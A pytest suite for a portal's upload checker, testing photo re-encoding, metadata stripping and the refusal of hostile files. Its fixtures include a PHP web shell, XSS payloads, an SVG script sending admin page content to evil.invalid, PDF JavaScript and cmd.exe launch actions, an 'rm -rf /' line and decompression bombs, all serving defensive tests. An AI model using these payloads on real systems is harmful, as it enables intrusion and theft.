"""Upload inspection and storage, on a corpus made here (no binary fixtures): what residents' phones send,
and what an attacker would.

The messages need Flask-Babel, so a bare Flask app with Babel gives them a request context; nothing else
of the portal is started.
"""

from __future__ import annotations

import errno
import hashlib
import io
import os
import re
import stat
import struct
import time
import warnings
import zipfile
import zlib

import pytest
from flask import Flask
from flask_babel import Babel
from PIL import ExifTags, Image, ImageFile
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from portal import uploads
from portal.storage import MissingObject, StorageError
from portal.storage import local as local_storage
from portal.storage.local import LocalStorage
from portal.uploads import CleanFile, UploadRejected, UploadStore, inspect_upload, rejection_message

MB = 1024 * 1024
LIMIT = 10 * MB
RED = (220, 20, 20)
PAPER = (235, 235, 225)


# --- the corpus -----------------------------------------------------------------------------------------


def picture(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """Return a light 'document' with a red square in its top-left corner (to see where it turns)."""
    image = Image.new(mode, (width, height), PAPER if mode == "RGB" else PAPER + (255,))
    image.paste(RED if mode == "RGB" else RED + (255,), (0, 0, width // 6, height // 6))
    return image


def encode(image: Image.Image, fmt: str = "JPEG", **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **options)
    return buffer.getvalue()


def phone_exif(orientation: int = 6) -> Image.Exif:
    """Return EXIF as a cheap Android phone writes it: orientation, make, and where the photo was taken."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "HP Murah"
    exif[ExifTags.IFD.GPSInfo] = {ExifTags.GPS.GPSLatitudeRef: "S", ExifTags.GPS.GPSLatitude: (6.0, 42.0, 5.5),
                                  ExifTags.GPS.GPSLongitudeRef: "E",
                                  ExifTags.GPS.GPSLongitude: (111.0, 20.0, 1.25)}
    return exif


def phone_photo(width: int = 1200, height: int = 1600, orientation: int = 6) -> bytes:
    """Return a JPEG as stored by the sensor (landscape pixels) with the EXIF saying how to turn it."""
    return encode(picture(width, height), "JPEG", quality=90, exif=phone_exif(orientation),
                  icc_profile=b"\x00" * 128, comment=b"secret comment")


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int, height: int, rows: int | None = None, *, bit_depth: int = 1, colour_type: int = 0) -> bytes:
    """Return a PNG (1-bit greyscale unless told) declaring `width` x `height`: a few kilobytes that decode to
    gigabytes.

    With `rows`, only that many rows of pixel data are included (the header is what matters).
    """
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour_type]
    row = b"\x00" + bytes((width * channels * bit_depth + 7) // 8)
    pixels = zlib.compress(row * (height if rows is None else rows), 9)
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", pixels)
            + png_chunk(b"IEND", b""))


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.php", "<?php system($_GET['c']); ?>")
        archive.writestr("index.html", "<script>alert(document.cookie)</script>")
    return buffer.getvalue()


def with_comment(jpeg: bytes, comment: bytes) -> bytes:
    """Return `jpeg` with a COM segment holding `comment` right after SOI (inside the image, not after it)."""
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]


def pdf(pages: int = 2, edit=None) -> bytes:
    """Return a PDF of blank A4 pages made by pypdf, after `edit(writer)` when given."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if edit:
        edit(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def open_action_javascript(writer: PdfWriter) -> None:
    writer.add_open_action(JavaScript("app.launchURL('http://example.invalid/?' + this.info.title);"))


def page_open_javascript(writer: PdfWriter) -> None:
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('hi');"))


def open_action_launch(writer: PdfWriter) -> None:
    launch = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject("/Launch"),
                               NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(launch)


def action(kind: str, **entries) -> DictionaryObject:
    """Return a PDF action dictionary of type `kind` ("/GoToR", …) with `entries` (names: "/x", else text)."""
    values = {NameObject(f"/{key}"): NameObject(value) if value.startswith("/") else TextStringObject(value)
              for key, value in entries.items()}
    return DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind), **values})


def open_action(kind: str, **entries):
    """Return an `edit` that makes an action of type `kind` the document's /OpenAction (an indirect object)."""
    def edit(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action(kind, **entries))
    return edit


def page_open(kind: str, **entries):
    """Return an `edit` that runs an action of type `kind` when the first page opens (/AA /O)."""
    def edit(writer: PdfWriter) -> None:
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action(kind, **entries)})
    return edit


def link(kind: str, **entries):
    """Return an `edit` that puts a link annotation running an action of type `kind` on the first page."""
    def edit(writer: PdfWriter) -> None:
        from pypdf.generic import ArrayObject, NumberObject
        annotation = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(100), NumberObject(100)]),
            NameObject("/A"): action(kind, **entries)})
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return edit


SHARE = "\\\\192.0.2.1\\share\\x.pdf"  # \\host\share\x.pdf as a PDF string


def embedded_file(writer: PdfWriter) -> None:
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not really")


def password(writer: PdfWriter) -> None:
    writer.encrypt("rahasia")


def open_on_first_page(writer: PdfWriter) -> None:
    writer.open_destination = writer.pages[0]


def handmade_pdf(action: bytes, *, compressed: bool, referenced: bool) -> bytes:
    """Return a one-page PDF 1.5 whose object 4 is `action`, with a cross-reference stream.

    `compressed` puts object 4 in a Flate object stream (invisible to a byte scan); `referenced` makes it
    the catalogue's /OpenAction (else it is an orphan no reader ever runs, but a byte scan still sees).
    """
    parts = [b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"]
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    open_action = b" /OpenAction 4 0 R" if referenced else b""
    add(1, b"<< /Type /Catalog /Pages 2 0 R" + open_action + b" >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    if compressed:
        header = b"4 0 "
        packed = zlib.compress(header + action)
        add(5, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (len(header), len(packed)) + packed + b"\nendstream")
    else:
        add(4, action)
        add(5, b"<< /Type /Metadata /Subtype /XML /Length 0 >>\nstream\n\nendstream")
    xref_at = sum(map(len, parts))
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    rows += [b"\x01" + struct.pack(">IH", offsets[number], 0) for number in (1, 2, 3)]
    rows.append(b"\x02" + struct.pack(">IH", 5, 0) if compressed else b"\x01" + struct.pack(">IH", offsets[4], 0))
    rows.append(b"\x01" + struct.pack(">IH", offsets[5], 0))
    rows.append(b"\x01" + struct.pack(">IH", xref_at, 0))
    table = b"".join(rows)
    parts.append(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
                 + table + b"\nendstream\nendobj\n")
    parts.append(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return b"".join(parts)


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"


def samsung_trailer(blocks: list[tuple[int, bytes, bytes]]) -> bytes:
    """Return a Samsung SEFH/SEFT trailer holding (type, name, value) blocks."""
    data = b""
    placed = []
    for kind, name, value in blocks:
        block = b"\x00\x00" + struct.pack("<HI", kind, len(name)) + name + value
        placed.append((kind, len(data), len(block)))
        data += block
    entries = b"".join(b"\x00\x00" + struct.pack("<HII", kind, len(data) - start, size)
                       for kind, start, size in placed)
    directory = b"SEFH" + struct.pack("<II", 101, len(placed)) + entries
    return data + directory + struct.pack("<I", len(directory)) + b"SEFT"


def mp4(payload: bytes = b"\x00" * 500) -> bytes:
    ftyp = b"ftypmp42" + bytes(4) + b"mp42isom"
    return (struct.pack(">I", 8 + len(ftyp) - 4) + ftyp + struct.pack(">I", 8 + len(payload)) + b"mdat"
            + payload)


def motion_photo(video: bytes, declared: int | None = None) -> bytes:
    """Return a Google-style motion photo: a JPEG whose XMP lists the video appended after it."""
    length = len(video) if declared is None else declared
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
           b'<rdf:Description xmlns:Container="http://ns.google.com/photos/1.0/container/" '
           b'xmlns:Item="http://ns.google.com/photos/1.0/container/item/" xmlns:GCamera='
           b'"http://ns.google.com/photos/1.0/camera/" GCamera:MotionPhoto="1"><Container:Directory><rdf:Seq>'
           b'<rdf:li rdf:parseType="Resource"><Container:Item Item:Mime="image/jpeg" Item:Semantic="Primary" '
           b'Item:Length="0" Item:Padding="0"/></rdf:li><rdf:li rdf:parseType="Resource"><Container:Item '
           b'Item:Mime="video/mp4" Item:Semantic="MotionPhoto" Item:Length="%d" Item:Padding="0"/></rdf:li>'
           b'</rdf:Seq></Container:Directory></rdf:Description></rdf:RDF></x:xmpmeta>' % length)
    return encode(picture(1200, 1600), "JPEG", xmp=xmp) + video


def multi_picture(extra: bytes = b"") -> bytes:
    """Return an MPF JPEG (primary + a gain-map-like second image), as iPhones and Ultra HDR phones write."""
    return encode(picture(1200, 1600), "MPO", save_all=True, append_images=[Image.new("L", (300, 400), 90)]) + extra


# --- helpers --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def app():
    app = Flask(__name__)
    app.config["BABEL_DEFAULT_LOCALE"] = "id"
    Babel(app)
    return app


INDONESIAN = {"berkas", "foto", "kirim", "tidak", "dapat", "terlalu", "ulang", "dokumen", "halaman", "kami"}
ENGLISH = re.compile(r"\b(the|please|file|upload|image|too|send|cannot|page|pages)\b", re.IGNORECASE)


def message_for(app, error: UploadRejected) -> str:
    with app.test_request_context("/"):
        return rejection_message(error)


def assert_indonesian(text: str) -> None:
    words = set(re.findall(r"[a-z]+", text.lower()))
    assert len(words & INDONESIAN) >= 2, text
    assert not ENGLISH.search(text), text
    assert "%(" not in text and text.endswith("."), text


def rejected(data: bytes, **limits) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(data, **{"max_bytes": LIMIT, **limits})
    return caught.value


def jpeg_markers(data: bytes) -> list[int]:
    """Return the markers of a JPEG up to its first scan (an independent reading, not the module's)."""
    assert data[:2] == b"\xff\xd8"
    markers, position = [], 2
    while True:
        assert data[position] == 0xFF
        marker = data[position + 1]
        markers.append(marker)
        if marker == 0xDA:
            return markers
        position += 2 + struct.unpack_from(">H", data, position + 2)[0]


def assert_clean_jpeg(clean: CleanFile) -> Image.Image:
    """Check `clean` is a bare re-encoded JPEG and return it opened."""
    assert clean.kind == "image" and clean.mimetype == "image/jpeg" and clean.extension == "jpg"
    assert clean.pages is None
    assert clean.sha256 == hashlib.sha256(clean.data).hexdigest()
    markers = jpeg_markers(clean.data)
    # no APP1 (EXIF, XMP), APP2 (ICC, MPF), APP13 (IPTC), APP14 (Adobe) or comment
    assert not {0xE1, 0xE2, 0xED, 0xEE, 0xFE} & set(markers), [hex(marker) for marker in markers]
    assert clean.data.rstrip(b"\x00").endswith(b"\xff\xd9")
    image = Image.open(io.BytesIO(clean.data))
    assert image.format == "JPEG" and image.mode == "RGB" and image.info.get("progressive")
    assert image.size == (clean.width, clean.height)
    assert not image.getexif() and "icc_profile" not in image.info and "comment" not in image.info
    return image


def is_red(pixel) -> bool:
    return pixel[0] > 180 and pixel[1] < 80 and pixel[2] < 80


# --- photos that are accepted ---------------------------------------------------------------------------


def test_phone_photo_is_turned_upright_and_loses_exif_and_location():
    original = phone_photo(1200, 1600, orientation=6)
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the corpus has a GPS tag

    clean = inspect_upload(original, max_bytes=LIMIT)

    image = assert_clean_jpeg(clean)
    assert (clean.width, clean.height) == (1600, 1200)  # orientation 6: turned a quarter clockwise
    assert is_red(image.getpixel((1600 - 40, 40)))  # the sensor's top-left corner is now top-right
    assert not is_red(image.getpixel((40, 40)))
    assert b"HP Murah" not in clean.data and b"secret comment" not in clean.data
    assert clean.data != original


def test_large_photo_is_scaled_down_to_the_longest_side():
    clean = inspect_upload(phone_photo(4000, 3000, orientation=6), max_bytes=LIMIT)

    image = assert_clean_jpeg(clean)
    assert (clean.width, clean.height) == (1500, 2000)
    assert is_red(image.getpixel((1500 - 40, 40)))


def test_longest_side_follows_max_image_side():
    clean = inspect_upload(phone_photo(1200, 1600, orientation=1), max_bytes=LIMIT, max_image_side=1000)
    assert (clean.width, clean.height) == (750, 1000)


@pytest.mark.parametrize("orientation, size, red_corner", [
    (1, (1200, 1600), "top-left"), (3, (1200, 1600), "bottom-right"), (8, (1600, 1200), "bottom-left"),
])
def test_every_orientation_is_applied(orientation, size, red_corner):
    clean = inspect_upload(phone_photo(1200, 1600, orientation=orientation), max_bytes=LIMIT)
    image = assert_clean_jpeg(clean)
    assert image.size == size
    width, height = image.size
    corners = {"top-left": (40, 40), "bottom-right": (width - 40, height - 40), "bottom-left": (40, height - 40)}
    assert is_red(image.getpixel(corners[red_corner]))


def test_png_with_transparency_is_flattened_on_white():
    image = Image.new("RGBA", (800, 900), (0, 0, 0, 0))
    image.paste((20, 40, 200, 255), (400, 0, 800, 900))
    clean = inspect_upload(encode(image, "PNG"), max_bytes=LIMIT)

    stored = assert_clean_jpeg(clean)
    assert (clean.width, clean.height) == (800, 900)
    assert all(channel > 245 for channel in stored.getpixel((100, 450)))  # transparent: white, not black
    red, green, blue = stored.getpixel((700, 450))
    assert blue > 170 and red < 60


def test_palette_png_with_transparent_index_is_flattened_on_white():
    image = Image.new("P", (700, 700), 0)
    image.putpalette([0, 0, 0, 200, 0, 0] + [0] * 762)
    image.paste(1, (350, 0, 700, 700))
    clean = inspect_upload(encode(image, "PNG", transparency=0), max_bytes=LIMIT)
    stored = assert_clean_jpeg(clean)
    assert all(channel > 245 for channel in stored.getpixel((100, 350)))
    assert stored.getpixel((600, 350))[0] > 150


def test_sixteen_bit_greyscale_scan_keeps_its_tones():
    clean = inspect_upload(encode(Image.new("I;16", (800, 800), 30000), "PNG"), max_bytes=LIMIT)
    grey = assert_clean_jpeg(clean).getpixel((400, 400))
    assert 100 < grey[0] < 135  # 30000 / 256, not clipped to white


@pytest.mark.parametrize("mode, options", [
    ("RGB", {"quality": 80}),  # lossy: VP8
    ("RGB", {"lossless": True}),  # VP8L
    ("RGBA", {"quality": 80}),  # VP8X with alpha
], ids=["lossy", "lossless", "alpha"])
def test_webp_is_re_encoded_as_jpeg(mode, options):
    clean = inspect_upload(encode(picture(900, 1200, mode), "WEBP", **options), max_bytes=LIMIT)
    image = assert_clean_jpeg(clean)
    assert image.size == (900, 1200)
    assert is_red(image.getpixel((40, 40)))


@pytest.mark.parametrize("options", [{"progressive": True}, {"restart_marker_blocks": 4}, {"quality": 100}],
                         ids=["progressive", "restart-markers", "quality-100"])
def test_other_jpeg_encodings_are_read(options):
    clean = inspect_upload(encode(picture(1000, 1300), "JPEG", **options), max_bytes=LIMIT)
    assert (clean.width, clean.height) == (1000, 1300)


def test_cmyk_and_greyscale_jpegs_become_rgb():
    for mode in ("CMYK", "L"):
        clean = inspect_upload(encode(Image.new(mode, (800, 800)), "JPEG"), max_bytes=LIMIT)
        assert_clean_jpeg(clean)


# --- what phones put after a photo, and what they do not -----------------------------------------------


def test_padding_after_the_photo_is_tolerated():
    assert inspect_upload(phone_photo() + b"\x00" * 200, max_bytes=LIMIT).width == 1600
    assert inspect_upload(encode(picture(700, 700), "PNG") + b"\r\n", max_bytes=LIMIT).width == 700


def test_multi_picture_jpeg_is_accepted_and_only_the_first_picture_kept():
    clean = inspect_upload(multi_picture(), max_bytes=LIMIT)
    assert (clean.width, clean.height) == (1200, 1600)
    assert b"MPF" not in clean.data


def test_samsung_trailer_is_accepted():
    trailer = samsung_trailer([(0x0A01, b"Image_UTC_Data", b"1764200000000"),
                               (0x0A20, b"Camera_Capture_Mode_Info", b"1")])
    clean = inspect_upload(phone_photo() + trailer, max_bytes=LIMIT)
    assert b"SEFH" not in clean.data and b"Image_UTC_Data" not in clean.data


def test_motion_photo_video_is_accepted_and_dropped():
    video = mp4()
    clean = inspect_upload(motion_photo(video), max_bytes=LIMIT)
    assert (clean.width, clean.height) == (1200, 1600)
    assert b"mdat" not in clean.data


@pytest.mark.parametrize("make", [
    lambda: phone_photo() + zip_archive(),  # the classic JPEG/ZIP polyglot
    lambda: phone_photo() + b"<script>alert(1)</script>",
    lambda: phone_photo() + b"x" * 10,
    lambda: phone_photo() + b"\x00" * 5000,  # more than padding
    lambda: with_comment(phone_photo(), zip_archive()),  # an archive inside the photo, not after it
    lambda: encode(picture(700, 700), "PNG") + b"<?php system($_GET['c']); ?>",
    lambda: encode(picture(700, 700), "PNG")[:-12] + png_chunk(b"zzZz", zip_archive()) + png_chunk(b"IEND", b""),
    lambda: encode(picture(700, 700), "WEBP") + b"GIF89a" + zip_archive(),
    lambda: multi_picture(b"#!/bin/sh\nrm -rf /\n"),  # after the declared pictures
    lambda: motion_photo(b"not a video at all, just text that claims to be one" * 20),
    lambda: motion_photo(mp4(), declared=100),  # the declared length does not match what follows
    lambda: phone_photo() + b"junk" + samsung_trailer([(0x0A01, b"Image_UTC_Data", b"1")])[:-8] + b"SEFT",
    lambda: pdf() + zip_archive(),
    lambda: pdf() + b"<html><script>alert(1)</script></html>",
], ids=["jpeg+zip", "jpeg+script", "jpeg+bytes", "jpeg+long-padding", "zip-in-comment", "png+php",
        "zip-in-png-chunk", "webp+gif+zip", "mpf+script", "motion-not-mp4", "motion-wrong-length",
        "broken-samsung-trailer", "pdf+zip", "pdf+html"])
def test_hidden_content_is_refused(app, make):
    error = rejected(make())
    assert error.code == "hidden_content"
    assert_indonesian(message_for(app, error))


def test_zip_signature_alone_is_not_an_archive():
    photo = phone_photo()
    # The four bytes occur by chance in compressed data; without a plausible header they are not a ZIP.
    assert not uploads.contains_zip(b"\x00" * 100 + b"PK\x03\x04" + b"\xff" * 40)
    assert not uploads.contains_zip(b"PK\x05\x06" + b"\x07" * 30)
    assert uploads.contains_zip(zip_archive()) and uploads.contains_zip(photo + zip_archive())
    assert uploads.contains_zip(zip_archive()[-22:])  # the end record alone


# --- rejections -----------------------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
WINDOWS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(64) + b"This program cannot"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="800">'
       b'<script>fetch("/admin").then(r=>r.text()).then(t=>location="//evil.invalid/?"+t)</script></svg>')
HTML = b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>"
GIF = encode(picture(800, 800).convert("P"), "GIF")
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(100)


@pytest.mark.parametrize("data", [ELF, WINDOWS_EXE, SVG, b"  " + SVG, HTML, GIF, zip_archive(),
                                  b"NIK 3317010101900001, nama: Siti\n", b"\xff\xd8",
                                  b"RIFF\x10\x00\x00\x00WAVEfmt "],
                         ids=["elf", "exe", "svg", "svg-with-space", "html", "gif", "zip", "text", "jpeg-stub",
                              "wav"])
def test_anything_but_photos_and_pdf_is_refused_whatever_its_name(app, data):
    error = rejected(data)
    assert error.code == "unsupported_type"
    text = message_for(app, error)
    assert_indonesian(text)
    assert "JPG" in text and "PDF" in text


def test_heic_gets_advice_for_iphones(app):
    error = rejected(HEIC)
    assert error.code == "unsupported_type" and error.params == {"detected": "heic"}
    text = message_for(app, error)
    assert_indonesian(text)
    assert "HEIC" in text and "JPG" in text


def test_empty_file_is_refused(app):
    error = rejected(b"")
    assert error.code == "empty"
    assert_indonesian(message_for(app, error))


def test_file_over_the_limit_is_refused_before_anything_else(app):
    error = rejected(phone_photo() + b"\x00" * MB, max_bytes=MB)
    assert error.code == "too_large"
    assert error.params["limit_mb"] == 1
    text = message_for(app, error)
    assert_indonesian(text)
    assert "1 MB" in text and re.search(r"\b1,[0-9] MB", text), text  # Indonesian decimal comma


def test_truncated_jpeg_is_corrupt(app):
    photo = phone_photo()
    for cut in (len(photo) // 3, len(photo) * 2 // 3, len(photo) - 2):
        error = rejected(photo[:cut])
        assert error.code == "corrupt_image", cut
    assert_indonesian(message_for(app, error))


def test_jpeg_with_intact_markers_but_broken_data_is_corrupt():
    photo = bytearray(phone_photo(orientation=1))
    table = photo.index(b"\xff\xc4")  # Huffman table: make it nonsense, keeping its length
    photo[table + 5:table + 21] = b"\xff" * 16
    assert rejected(bytes(photo)).code == "corrupt_image"


def test_truncated_or_damaged_png_is_corrupt():
    png = encode(picture(700, 700), "PNG")
    assert rejected(png[: len(png) // 2]).code == "corrupt_image"
    body_at = png.index(b"IDAT") + 4
    damaged = png[:body_at] + b"\x00" * 40 + png[body_at + 40:]
    assert rejected(damaged).code == "corrupt_image"


def test_truncated_webp_is_corrupt():
    webp = encode(picture(900, 900), "WEBP", quality=80)
    assert rejected(webp[: len(webp) // 2]).code == "corrupt_image"


def test_decompression_bomb_is_refused_before_decoding(app, monkeypatch):
    bomb = png_bomb(20000, 20000)  # 400 megapixels, 50 MB of pixels (a gigabyte as RGB) in a tiny file
    assert len(bomb) < 100_000

    def decode(image):
        raise AssertionError(f"decoded {image.size}")

    monkeypatch.setattr(ImageFile.ImageFile, "load", decode)
    error = rejected(bomb)
    assert error.code == "image_too_many_pixels"
    assert error.params == {"width": 20000, "height": 20000}
    assert_indonesian(message_for(app, error))


def test_pillow_warning_range_is_refused_without_warnings_or_global_changes():
    limit, truncated = Image.MAX_IMAGE_PIXELS, ImageFile.LOAD_TRUNCATED_IMAGES
    with warnings.catch_warnings(record=True) as seen:
        warnings.simplefilter("always")
        # 100 megapixels: between Pillow's warning (89 M) and error (179 M) thresholds
        assert rejected(png_bomb(10000, 10000, rows=4)).code == "image_too_many_pixels"
        # under Pillow's limit but over ours
        assert rejected(png_bomb(8000, 6000, rows=4)).code == "image_too_many_pixels"
    assert not [warning for warning in seen if issubclass(warning.category, Image.DecompressionBombWarning)]
    assert (Image.MAX_IMAGE_PIXELS, ImageFile.LOAD_TRUNCATED_IMAGES) == (limit, truncated)


def test_max_pixels_is_a_parameter_with_more_room_for_jpeg():
    assert rejected(phone_photo(1200, 1600), max_jpeg_pixels=1_000_000).code == "image_too_many_pixels"
    assert rejected(encode(picture(1200, 1600), "PNG"), max_pixels=1_000_000).code == "image_too_many_pixels"
    # `max_pixels` alone does not limit JPEGs, which are decoded at a reduced scale.
    assert inspect_upload(phone_photo(1200, 1600), max_bytes=10_000_000, max_pixels=1_000_000).kind == "image"


def test_small_photo_is_refused_with_its_size(app):
    error = rejected(encode(picture(300, 400), "JPEG"))
    assert error.code == "image_too_small"
    assert error.params == {"width": 300, "height": 400, "minimum": 600}
    text = message_for(app, error)
    assert_indonesian(text)
    assert "300" in text and "400" in text and "600" in text


def test_small_photo_size_is_reported_as_the_resident_sees_it():
    error = rejected(phone_photo(400, 300, orientation=6))
    assert error.params == {"width": 300, "height": 400, "minimum": 600}


# --- PDFs -----------------------------------------------------------------------------------------------


def test_valid_pdf_is_stored_unchanged():
    original = pdf(2)
    clean = inspect_upload(original, max_bytes=LIMIT)
    assert clean.data == original
    assert (clean.kind, clean.mimetype, clean.extension) == ("pdf", "application/pdf", "pdf")
    assert (clean.pages, clean.width, clean.height) == (2, None, None)
    assert clean.sha256 == hashlib.sha256(original).hexdigest()


@pytest.mark.parametrize("bit_depth, colour_type, side", [(16, 6, 4999), (8, 6, 4000), (16, 2, 3500)],
                         ids=["16-bit-rgba-25mp", "8-bit-rgba-16mp", "16-bit-rgb-12mp"])
def test_a_png_costly_to_decode_is_refused_before_decoding(app, bit_depth, colour_type, side):
    """Under the 25-megapixel cap, but 16-bit or alpha samples: a 190 KB file of 4999 × 4999 16-bit RGBA took
    3.4 s and 360 MB to decode."""
    data = png_bomb(side, side, rows=2, bit_depth=bit_depth, colour_type=colour_type)
    assert side * side <= 25_000_000 and len(data) < 200_000
    error = rejected(data)
    assert error.code == "image_too_many_pixels" and error.params == {"width": side, "height": side}
    assert_indonesian(message_for(app, error))


def test_decode_cost_counts_channels_and_sample_size():
    from portal.uploads.images import sample_bytes

    header = png_bomb(10, 10, rows=1, bit_depth=16, colour_type=6)
    assert sample_bytes(header, "png", 100) == 800
    assert sample_bytes(png_bomb(10, 10, rows=1, bit_depth=8, colour_type=2), "png", 100) == 300
    assert sample_bytes(png_bomb(10, 10, rows=1), "png", 100) == 100  # 1-bit grey decodes to a byte a pixel
    assert sample_bytes(b"RIFF....WEBP", "webp", 100) == 400
    scan = encode(picture(3307, 4677), "PNG")  # an 8-bit RGB A4 scan at 400 dpi is within the limit
    assert sample_bytes(scan, "png", 3307 * 4677) <= uploads.MAX_DECODE_BYTES


def test_pdf_opening_on_its_first_page_is_not_active_content():
    assert inspect_upload(pdf(1, open_on_first_page), max_bytes=LIMIT).pages == 1


def test_pdf_without_any_active_content_in_an_object_stream_is_accepted():
    inert = b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"  # going to its own first page when opened
    assert inspect_upload(handmade_pdf(inert, compressed=True, referenced=True), max_bytes=LIMIT).pages == 1
    destination = b"[3 0 R /XYZ 0 842 0]"
    assert inspect_upload(handmade_pdf(destination, compressed=True, referenced=True), max_bytes=LIMIT).pages == 1


PDF_ACTIONS = {
    "open-gotor-share": pdf(1, open_action("/GoToR", F=SHARE, D="[0 /Fit]")),
    "page-open-gotor-share": pdf(1, page_open("/GoToR", F=SHARE)),
    "page-open-goto": pdf(1, page_open("/GoTo", D="/first")),  # any /AA is automatic
    "open-uri": pdf(1, open_action("/URI", URI="http://192.0.2.1/track")),
    "open-named-print": pdf(1, open_action("/Named", N="/Print")),
    "open-rendition": pdf(1, open_action("/Rendition", OP="/0")),
    "link-javascript-uri": pdf(1, link("/URI", URI="javascript:app.alert(1)")),
    "link-http-uri": pdf(1, link("/URI", URI="https://example.invalid/")),
    "link-gotor": pdf(1, link("/GoToR", F="lain.pdf")),
    **{f"link-{kind.lower()}": pdf(1, link(f"/{kind}")) for kind in ("Named", "Rendition", "Sound", "Movie",
                                                                     "ImportData", "ResetForm", "Hide")},
    "open-gotor-in-object-stream": handmade_pdf(b"<< /Type /Action /S /GoToR /F (x.pdf) /D [0 /Fit] >>",
                                                compressed=True, referenced=True),
    "open-uri-in-object-stream": handmade_pdf(b"<< /S /URI /URI (file:///etc/passwd) >>", compressed=True,
                                              referenced=True),
}


@pytest.mark.parametrize("name", list(PDF_ACTIONS))
def test_pdf_that_acts_when_opened_or_reaches_outside_is_refused(app, name):
    error = rejected(PDF_ACTIONS[name])
    assert error.code == "pdf_active_content"
    assert "tindakan otomatis" in message_for(app, error)
    assert_indonesian(message_for(app, error))


@pytest.mark.parametrize("data", [
    pdf(1, open_action_javascript),
    pdf(1, page_open_javascript),
    pdf(1, open_action_launch),
    pdf(1, embedded_file),
    pdf(1, open_action_javascript).replace(b"/JavaScript", b"/J#61vaScript"),  # name written with an escape
    handmade_pdf(JS_ACTION, compressed=True, referenced=True),  # hidden from a byte scan
    handmade_pdf(JS_ACTION, compressed=False, referenced=False),  # an orphan only a byte scan sees
    handmade_pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>", compressed=True, referenced=True),
], ids=["open-action-js", "page-open-js", "launch", "embedded-file", "escaped-name", "js-in-object-stream",
        "orphan-js", "rich-media"])
def test_active_pdf_is_refused(app, data):
    error = rejected(data)
    assert error.code == "pdf_active_content"
    assert_indonesian(message_for(app, error))


def test_both_lines_of_defence_work_alone(monkeypatch):
    hidden = handmade_pdf(JS_ACTION, compressed=True, referenced=True)
    assert uploads.raw_active_content(hidden) is None
    assert uploads.pdf_active_content(PdfReader(io.BytesIO(hidden))) is not None

    orphan = handmade_pdf(JS_ACTION, compressed=False, referenced=False)
    assert uploads.pdf_active_content(PdfReader(io.BytesIO(orphan))) is None
    assert uploads.raw_active_content(orphan) == "/JavaScript"

    monkeypatch.setattr(uploads, "raw_active_content", lambda data: None)
    assert rejected(pdf(1, open_action_javascript)).code == "pdf_active_content"
    assert rejected(pdf(1, embedded_file)).code == "pdf_active_content"


def test_encrypted_pdf_is_refused(app):
    error = rejected(pdf(1, password))
    assert error.code == "pdf_encrypted"
    assert_indonesian(message_for(app, error))


def test_pdf_with_too_many_pages_is_refused(app):
    assert inspect_upload(pdf(10), max_bytes=LIMIT).pages == 10
    error = rejected(pdf(11))
    assert error.code == "pdf_too_many_pages"
    assert error.params == {"pages": 11, "limit": 10}
    text = message_for(app, error)
    assert_indonesian(text)
